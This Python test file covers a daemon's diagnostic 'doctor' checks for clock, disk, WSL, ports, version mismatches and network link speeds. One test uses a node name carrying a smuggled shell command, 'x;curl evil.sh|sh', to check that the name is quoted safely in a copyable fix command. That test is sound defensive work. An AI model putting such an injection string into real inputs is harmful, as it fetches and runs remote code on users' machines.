"""What follows from planted readings: clock, disk, WSL, local network, ports, versions, links."""

import errno
import socket
from dataclasses import replace
from pathlib import Path

import pytest

from jupiterd.cluster.health.health import TABLE
from jupiterd.cluster.values.interface_kind import InterfaceKind
from jupiterd.doctor import clock_check, disk, health, links, local_network, ports, versions, wsl
from jupiterd.doctor.finding import Status
from jupiterd.doctor.lan import Network
from jupiterd.errors import TimedOutError
from tests.support.doctor.machines import BETA, VERSIONS, machine, node

GIB = 1 << 30
NOW_S = 1_795_000_000.0


@pytest.mark.parametrize(
    ("wall_s", "is_synchronised", "status"),
    [
        (NOW_S, True, Status.OK),
        (NOW_S, None, Status.OK),
        (NOW_S, False, Status.WARN),
        (0.0, True, Status.FAIL),
    ],
)
def test_the_clock(wall_s: float, is_synchronised: bool | None, status: Status):
    assert clock_check.judge(clock_check.ClockReading(wall_s, is_synchronised)).status is status


def test_this_machines_clock_can_be_read():
    assert clock_check.read(machine()).wall_s > clock_check.EARLIEST_S


ROOMY = disk.DiskReading("/state", 400 * GIB, 500 * GIB, GIB, "ext4")


@pytest.mark.parametrize(
    ("reading", "status", "word"),
    [
        (ROOMY, Status.OK, "400.0 GiB of 500.0 GiB free"),
        (replace(ROOMY, free_bytes=GIB), Status.FAIL, "nothing is written"),
        (replace(ROOMY, free_bytes=5 * GIB), Status.WARN, "only 5.0 GiB"),
        (replace(ROOMY, is_writable=False), Status.FAIL, "can't be written"),
        (replace(ROOMY, kind="nfs4"), Status.WARN, "network drive (nfs4)"),
        (replace(ROOMY, is_private=False), Status.WARN, "may look into"),
    ],
)
def test_the_disk(reading: disk.DiskReading, status: Status, word: str):
    found = disk.judge(reading)
    assert (found.status, word in found.why) == (status, True)


def test_a_state_folder_that_is_not_there_yet_is_judged_by_where_it_would_be(tmp_path: Path):
    reading = disk.read(machine(state_dir=tmp_path / "not" / "yet"))
    assert reading.total_bytes >= reading.free_bytes > 0
    assert reading.is_writable
    (tmp_path / "open").mkdir(mode=0o755)
    (tmp_path / "open").chmod(0o755)
    assert not disk.read(machine(state_dir=tmp_path / "open")).is_private


@pytest.mark.parametrize(
    ("kernel", "mode", "has_systemd", "status"),
    [
        ("6.8.0-45-generic", "", True, Status.NOT_HERE),
        ("4.4.0-19041-Microsoft", "", True, Status.FAIL),
        ("6.6.87-microsoft-standard-WSL2", "nat", True, Status.WARN),
        ("6.6.87-microsoft-standard-WSL2", "", True, Status.WARN),
        ("6.6.87-microsoft-standard-WSL2", "mirrored", True, Status.WARN),
        ("6.6.87-microsoft-standard-WSL2", "mirrored", False, Status.WARN),
    ],
)
def test_linux_inside_windows(kernel: str, mode: str, has_systemd: bool, status: Status):
    found = wsl.judge(wsl.WslReading(kernel, mode, has_systemd, 47470))
    assert found.status is status
    assert found.fix or status is Status.NOT_HERE


def test_windows_firewall_gets_a_rule_for_our_port():
    found = wsl.judge(wsl.WslReading("6.6.87-microsoft-standard-WSL2", "mirrored", True, 47470))
    assert "New-NetFirewallHyperVRule" in found.fix
    assert "-LocalPorts 47470" in found.fix


@pytest.mark.parametrize(
    ("reading", "status"),
    [
        (local_network.LocalNetworkReading("Linux"), Status.NOT_HERE),
        (local_network.LocalNetworkReading("Darwin"), Status.NOT_HERE),
        (local_network.LocalNetworkReading("Darwin", (0, 0)), Status.OK),
        (local_network.LocalNetworkReading("Darwin", (0, errno.EHOSTUNREACH)), Status.FAIL),
        (local_network.LocalNetworkReading("Darwin", (errno.ENETDOWN,)), Status.WARN),
    ],
)
def test_the_permission_of_macos(reading: local_network.LocalNetworkReading, status: Status):
    assert local_network.judge(reading).status is status


@pytest.mark.parametrize(
    ("is_running", "number", "status"),
    [
        (True, 0, Status.OK),
        (True, errno.ECONNREFUSED, Status.FAIL),
        (True, errno.ETIMEDOUT, Status.FAIL),
        (False, 0, Status.OK),
        (False, errno.EADDRINUSE, Status.FAIL),
        (False, errno.EACCES, Status.FAIL),
        (False, errno.EINVAL, Status.FAIL),
    ],
)
def test_our_own_port(is_running: bool, number: int, status: Status):
    (found,) = ports.judge(ports.PortReading(47470, is_running, number))
    assert found.status is status


@pytest.mark.parametrize(
    ("number", "word"),
    [
        (errno.ECONNREFUSED, "jupiterd doesn't run there"),
        (errno.ETIMEDOUT, "off or asleep, or a firewall"),
        (errno.EHOSTUNREACH, "no way leads there"),
        (errno.EPIPE, "EPIPE"),
    ],
)
def test_a_node_that_does_not_answer(number: int, word: str):
    silent = ports.Try("beta", "10.0.0.2:47470", number)
    _, found = ports.judge(ports.PortReading(47470, True, 0, (silent,)))
    assert found.status is Status.WARN
    assert word in found.why


def test_whose_own_link_is_out_is_not_told_to_wake_the_others():
    silent = ports.Try("beta", "10.0.0.2:47470", errno.ETIMEDOUT)
    _, found = ports.judge(ports.PortReading(47470, True, 0, (silent,), is_own_link_out=True))
    assert found.status is Status.NOT_HERE
    assert "own link is out" in found.why
    told = machine(health=({"code": "link-out", "severity": "warning", "title": "", "hint": ""},))
    assert told.complains_of("link-out")
    assert not machine().complains_of("link-out")


@pytest.mark.net
def test_a_port_in_use_and_a_node_that_refuses_are_really_seen():
    with socket.create_server(("", 0)) as taken, socket.socket() as unheard:
        unheard.bind(("127.0.0.1", 0))
        port = taken.getsockname()[1]
        gone = node(BETA, "beta", addresses=[f"127.0.0.1:{unheard.getsockname()[1]}"])
        reading = ports.read(machine(gone, port=port))
        assert (reading.errno, reading.others[0].errno) == (0, errno.ECONNREFUSED)
        idle = ports.read(machine(port=port, status=None))
        assert (idle.errno, idle.others) == (errno.EADDRINUSE, ())


def test_machines_that_run_the_same_are_well():
    (found,) = versions.judge(machine(node(BETA, "beta")))
    assert found.status is Status.OK


@pytest.mark.parametrize(
    ("told", "status", "fix"),
    [
        ({"jupiterd": "0.2.0"}, Status.FAIL, "installers/install.sh"),
        ({"torch": "2.12.0"}, Status.WARN, "torch==2.13.0"),
        ({"mlx": "0.33.10"}, Status.WARN, "mlx==0.33.10"),
    ],
)
def test_a_node_that_runs_something_else_is_named(told: dict, status: Status, fix: str):
    other = node(BETA, "beta", hardware={"versions": VERSIONS | told})
    (found,) = versions.judge(machine(other))
    assert found.status is status
    assert found.why.startswith("beta has ")
    assert fix in found.fix


def test_another_build_of_the_same_torch_is_no_difference():
    other = node(BETA, "beta", hardware={"versions": VERSIONS | {"torch": "2.13.0+cu130"}})
    assert [found.status for found in versions.judge(machine(other))] == [Status.OK]


def test_a_patch_version_apart_is_told_and_nothing_needs_doing():
    other = node(BETA, "beta", hardware={"versions": VERSIONS | {"jupiterd": "0.1.4"}})
    (found,) = versions.judge(machine(other))
    assert (found.status, found.fix) == (Status.OK, "")
    assert "they work together" in found.why


def test_a_node_that_tells_no_versions_is_older():
    older = node(BETA, "beta", hardware={"cores": 4})
    newer = node("c3" * 16, "gamma")
    assert [f.status for f in versions.judge(machine(older, newer))] == [Status.WARN]
    assert [f.status for f in versions.judge(machine())] == [Status.NOT_HERE]


WIRE = {
    "target": "10.0.0.2:47470",
    "interface": "eth0",
    "kind": "Ethernet",
    "rtt_ms": 0.4,
    "loss": 0.0,
    "mbit_per_s": 940.0,
    "answers": True,
    "active": True,
}
AIR = WIRE | {"kind": "Wi-Fi", "interface": "wlan0", "rtt_ms": 8.0, "mbit_per_s": 200.0}
AGREED = {"eth0": 1000}


def judged(
    *ways: dict,
    agreed: dict[str, int] = AGREED,
    wired: tuple[Network, ...] = (),
    name: str = "beta",
) -> list:
    return links.judge(links.LinkReading(tuple((name, way) for way in ways), agreed, wired))


def test_a_machines_name_is_one_word_in_a_command_that_people_copy():
    (found,) = judged(WIRE | {"mbit_per_s": 94.0}, name="x;curl evil.sh|sh")
    assert found.fix.endswith("check links 'x;curl evil.sh|sh'")


def test_links_that_are_as_they_should_be():
    assert [found.status for found in judged(WIRE)] == [Status.OK]
    assert [found.status for found in judged(AIR)] == [Status.OK]
    (found,) = judged(WIRE | {"mbit_per_s": None})
    assert "wasn't measured" in found.why
    assert [found.status for found in judged()] == [Status.NOT_HERE]


@pytest.mark.parametrize(
    ("ways", "word"),
    [
        ([WIRE | {"mbit_per_s": 94.0}], "94 Mbit/s measured, 600 and more expected"),
        ([WIRE | {"rtt_ms": 9.0}], "a round trip takes 9.0 ms"),
        ([AIR | {"loss": 0.2}], "20% of what is asked gets no answer"),
        ([AIR, WIRE | {"active": False}], "although Ethernet answers"),
        ([WIRE | {"kind": "Thunderbolt", "interface": "bridge0"}], "5,000 and more expected"),
    ],
)
def test_a_link_that_is_slower_than_expected(ways: list[dict], word: str):
    (found,) = judged(*ways)
    assert found.status is Status.WARN
    assert word in found.why


def test_what_an_interface_has_agreed_on_is_what_is_expected():
    assert judged(WIRE | {"mbit_per_s": 1200.0}, agreed={"eth0": 2500})[0].status is Status.WARN
    assert judged(WIRE | {"mbit_per_s": 1200.0}, agreed={})[0].status is Status.OK


def test_a_cable_with_four_wires_is_seen():
    port = Network("eth0", InterfaceKind.ETHERNET, "10.0.0.1", "10.0.0.0/24", 100)
    (found,) = judged(WIRE, agreed={}, wired=(port,))
    assert "has agreed on 100 Mbit/s" in found.why


def test_ways_to_a_node_that_is_gone_are_not_judged():
    gone = node(BETA, "beta", state="gone", links=[WIRE | {"loss": 1.0}])
    assert links.read(machine(gone)).paths == ()


@pytest.mark.parametrize("code", TABLE)
def test_every_complaint_of_the_daemon_comes_with_its_fix(code: str):
    row = TABLE[code]
    told = {"code": code, "severity": str(row.severity), "title": row.title, "hint": row.hint}
    told["age_s"] = 250
    runs, found = health.judge(machine(health=(told,)), AssertionError)
    assert runs.status is Status.OK
    assert (found.check, found.fix) == (f"health/{code}", row.hint)
    assert found.why == f"{row.title} (for 4 min 10 s)"
    assert (found.status is Status.FAIL) == (row.severity == "error")


def test_a_daemon_that_gives_no_answer_gets_the_reason_and_what_helps():
    why = TimedOutError("its process 7 is halted", "let it go on with: kill -CONT 7")
    (found,) = health.judge(machine(status=None), lambda: why)
    assert (found.status, found.why, found.fix) == (Status.WARN, why.message, why.hint)
